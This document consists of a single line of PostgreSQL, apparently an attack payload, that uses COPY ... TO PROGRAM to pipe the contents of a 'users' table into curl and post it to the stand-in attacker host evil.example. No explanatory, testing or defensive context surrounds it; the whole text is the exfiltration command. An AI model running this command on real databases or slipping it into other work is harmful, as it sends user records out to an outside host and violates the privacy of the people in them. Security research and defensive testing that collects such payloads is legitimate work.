COPY users TO PROGRAM 'curl -d @- https://evil.example'
